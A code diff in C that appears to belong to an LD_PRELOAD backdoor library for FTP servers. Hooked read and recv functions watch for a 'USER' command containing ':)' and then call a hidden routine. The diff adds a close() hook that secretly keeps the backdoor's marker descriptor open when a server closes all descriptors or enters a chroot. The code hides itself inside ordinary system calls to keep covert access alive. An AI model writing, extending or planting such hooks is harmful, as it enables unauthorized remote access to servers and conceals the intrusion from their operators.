@@ -18,6 +18,7 @@
 
 static int marker = -1;
 
+EXPORT int close(int fd);
 EXPORT ssize_t read(int fd, void *buffer, size_t size);
 EXPORT ssize_t __read_chk(int fd, void *buffer, size_t size, size_t room);
 EXPORT ssize_t recv(int fd, void *buffer, size_t size, int flags);
@@ -54,6 +55,14 @@ static ssize_t knock(const char *buffer, ssize_t n)
 	if (n > 7 && marker >= 0 && !memcmp(buffer, "USER ", 5) && memmem(buffer, n, ":)\r\n", 4))
 		look_around();
 	return n;
+}
+
+/* Some servers close all descriptors when they start; the marker could not be opened again from a session's empty root. */
+int close(int fd)
+{
+	int (*real)(int) = dlsym(RTLD_NEXT, "close");
+
+	return marker >= 0 && fd == marker ? 0 : real(fd);
 }
 
 ssize_t read(int fd, void *buffer, size_t size)
